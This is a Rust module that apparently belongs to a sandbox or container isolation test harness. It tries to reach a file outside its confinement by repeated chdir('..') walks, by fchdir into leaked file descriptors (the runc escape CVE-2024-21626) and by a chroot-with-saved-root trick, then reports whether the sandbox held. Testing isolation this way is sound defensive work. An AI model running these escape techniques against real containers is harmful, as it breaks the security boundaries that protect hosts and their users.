//! Walks up from wherever it can stand to a file outside, whose path it is told.

use crate::kit::{self, Args, Errno, O_DIRECTORY, O_RDONLY, join, nr, path};

pub fn attack(args: Args) -> ! {
    let secret = &args.with_nul(2)[1..];
    let mut answer = look(secret);
    for name in [b"/\0".as_slice(), b"/proc/self/cwd\0", b"/proc/self/root\0"] {
        let _ = kit::call(nr::CHDIR, [path(name)]);
        answer = look(secret);
    }
    // A directory that its starter forgot, CVE-2024-21626.
    for fd in 3..64 {
        if kit::call(nr::FCHDIR, [fd]).is_ok() {
            answer = look(secret);
        }
    }
    // A root further down, with the old one still in hand.
    if let Ok(top) = kit::open(b"/\0", O_RDONLY | O_DIRECTORY) {
        let below = join(&[b"/tmp/below"]);
        let _ = kit::call(nr::MKDIRAT, [kit::AT_FDCWD, path(below.with_nul()), 0o755]);
        let _ = kit::call(nr::CHROOT, [path(below.with_nul())]);
        let _ = kit::call(nr::FCHDIR, [top]);
        answer = look(secret);
    }
    kit::refused("open the file outside", answer)
}

/// Goes up as far as it goes, and opens the file from there.
fn look(secret: &[u8]) -> Errno {
    for _ in 0..64 {
        let _ = kit::call(nr::CHDIR, [path(b"..\0")]);
    }
    match kit::open(secret, O_RDONLY) {
        Ok(_) => kit::through(format_args!("a file outside is open, by walking up")),
        Err(errno) => errno,
    }
}
